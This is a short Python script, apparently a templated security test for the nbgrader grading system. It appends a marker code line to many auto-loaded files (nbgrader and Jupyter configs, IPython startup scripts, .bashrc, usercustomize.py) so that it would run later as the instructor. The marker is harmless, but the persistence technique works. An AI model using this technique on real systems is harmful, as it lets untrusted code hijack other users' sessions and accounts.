def attempt(action, *arguments, **named):
    """Whatever can be done, is done."""
    try:
        return action(*arguments, **named)
    except Exception as problem:
        print(type(problem).__name__)


import os
from pathlib import Path

CODE = "\nopen('/tmp/@MARK@-ran', 'w').write('as the instructor')\n"


def leave(path):
    path = Path(os.path.expanduser(path))
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as file:
        file.write(CODE)


for place in (
    "@COURSE@/nbgrader_config.py",
    "../../../nbgrader_config.py",
    "@REPOSITORY@/@MARK@.py",
    "@HOME@/.jupyter/nbgrader_config.py",
    "~/.jupyter/nbgrader_config.py",
    "@HOME@/.jupyter/jupyter_config.py",
    "@HOME@/.ipython/profile_default/startup/00-@MARK@.py",
    "~/.ipython/profile_default/startup/00-@MARK@.py",
    "@HOME@/.bashrc",
    "@HOME@/.local/lib/python3.11/site-packages/usercustomize.py",
    "/etc/jupyter/nbgrader_config.py",
):
    attempt(leave, place)
